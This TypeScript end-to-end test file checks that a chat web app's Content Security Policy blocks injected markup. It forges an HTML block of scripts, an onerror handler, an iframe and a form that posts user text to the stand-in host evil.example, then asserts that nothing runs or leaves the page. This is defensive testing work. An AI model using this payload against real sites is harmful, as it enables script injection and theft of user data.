import { pages } from "./attacks/doors";
import { openChat } from "./conversation";
import { expect, test } from "./stage";

const SHOWN = Object.entries(pages).flatMap(([name, page]) =>
  page === "in development" ||
  name.includes("[token]") ||
  name.includes("[post]") ||
  name.includes("[conversation]")
    ? []
    : [name.replace("[business]", "harbor-coffee")],
);

test("[S32] what somebody got into a page runs nothing, draws nothing and tells nobody", async ({
  enter,
  expectComplaint,
}) => {
  expectComplaint(/Content Security Policy|^policy:|Failed to load resource/);
  // The page was changed under React, and came from nowhere, which may not speak to this machine.
  expectComplaint(/React error #418|LOCAL_NETWORK_ACCESS/);
  const maya = await enter("Maya Fernandes");
  const left: string[] = [];
  await maya.route("https://evil.example/**", async (route) => {
    left.push(route.request().url());
    await route.fulfill({ body: "" });
  });
  await maya.route("**/b/harbor-coffee", async (route) => {
    const response = await route.fetch();
    const forged = `<base href="https://evil.example/"><style>main { display: none }</style>
      <script>document.documentElement.dataset.forged = "inline"</script>
      <script nonce="guessed">document.documentElement.dataset.forged = "guessed"</script>
      <script src="https://evil.example/run.js"></script><link rel="stylesheet" href="https://evil.example/draw.css">
      <img src="https://evil.example/tell.png" onerror="document.documentElement.dataset.forged = 'handler'">
      <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/thing"></object>
      <form action="https://evil.example/take" id="forged"><input name="said" value="what Maya wrote"></form>`;
    await route.fulfill({ response, body: (await response.text()).replace(/(<body[^>]*>)/, `$1${forged}`) });
  });
  await openChat(maya, "harbor-coffee");
  await maya.evaluate(() => document.querySelector<HTMLFormElement>("#forged")?.submit());
  const asked = await maya.evaluate(() => fetch("https://evil.example/take").then(String, () => "refused"));
  expect(asked).toBe("refused");
  await expect(maya.getByRole("main")).toBeVisible();
  expect(await maya.locator("html").getAttribute("data-forged")).toBeNull();
  expect(new URL(maya.url()).origin).toBe(process.env.E2E_URL);
  expect(left).toEqual([]);
});

for (const person of ["Maya Fernandes", "Nora Lindqvist"] as const)
  test(`[S32] no page that ${person} looks at asks for what its policy refuses`, async ({
    enter,
    expectComplaint,
  }) => {
    // Some are not for everybody.
    expectComplaint(/status of 40[34]/);
    const page = await enter(person);
    for (const path of SHOWN) {
      const answer = await page.goto(path, { waitUntil: "networkidle" });
      expect([path, answer?.headers()["content-security-policy"]]).toEqual([
        path,
        expect.stringContaining("'strict-dynamic'"),
      ]);
    }
  });
